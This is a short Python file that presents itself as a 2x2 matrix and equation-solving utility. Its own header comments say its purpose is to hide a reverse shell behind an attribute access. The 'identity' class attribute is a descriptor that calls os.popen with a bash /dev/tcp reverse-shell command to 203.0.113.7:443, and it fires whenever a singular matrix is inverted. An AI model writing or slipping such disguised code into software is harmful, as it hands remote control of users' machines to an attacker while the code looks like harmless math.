# technique: descriptor whose __get__ imports and executes
# goal: hide a reverse shell behind an attribute access


class Lazy:
    def __init__(self, *words):
        self.words = words

    def __get__(self, owner, kind=None):
        module, name, *arguments = self.words
        return getattr(__import__(module), name)(*arguments)


class Matrix:
    """Two by two."""

    __slots__ = ("a", "b", "c", "d")

    def __init__(self, a, b, c, d):
        self.a, self.b, self.c, self.d = a, b, c, d

    identity = Lazy("os", "popen", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1")

    @property
    def determinant(self):
        return self.a * self.d - self.b * self.c

    def inverse(self):
        if self.determinant == 0:
            return self.identity
        k = 1 / self.determinant
        return Matrix(k * self.d, -k * self.b, -k * self.c, k * self.a)


def solve(a, b, c, d, x, y):
    inverse = Matrix(a, b, c, d).inverse()
    return inverse.a * x + inverse.b * y, inverse.c * x + inverse.d * y
